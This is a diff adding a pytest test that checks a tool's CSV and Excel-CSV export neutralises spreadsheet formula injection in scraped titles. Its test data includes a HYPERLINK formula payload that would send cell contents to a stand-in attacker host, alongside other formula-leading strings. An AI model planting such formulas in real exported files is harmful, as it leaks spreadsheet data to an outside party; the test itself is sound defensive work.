@@ -77,3 +77,30 @@ def test_files_are_written_with_the_users_umask(tmp_path, umask):
     path.chmod(0o600)  # a file replaced keeps the mode its owner gave it
     write_atomically(path, lambda out: out.write("[1]"))
     assert stat.S_IMODE(path.stat().st_mode) == 0o600 and path.read_text() == "[1]"
+
+
+@pytest.mark.parametrize("excel", [False, True], ids=["csv", "excel-csv"])
+def test_no_scraped_text_reaches_a_spreadsheet_as_a_formula(runner, write_config, tmp_path, excel):
+    from helpers.stored_calls import add_calls
+
+    config = write_config('[settings]\ndatabase = "monitor.db"\n')
+    shutil.copytree(ROOT / "rules", tmp_path / "rules")
+    titles = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
+        "+46 kommuner söker",
+        "-1+1 climate",
+        "@SUM(A1:A9) adaptation",
+        "\tTab first",
+        "Climate adaptation in small towns",
+    ]
+    add_calls(config, titles)
+    out = tmp_path / "calls.csv"
+    args = ["--config", str(config), "export", "--format", "csv", "--output", str(out)]
+    result = runner.invoke(cli, args + (["--excel"] if excel else []))
+    assert result.exit_code == 0, result.output
+    text = out.read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))
+    shown = {row[rows[0].index("title")] for row in rows[1:]}
+    assert shown == {
+        "'" + t if t[0] in "=+-@\t" else t for t in titles
+    }  # the text kept, never a formula
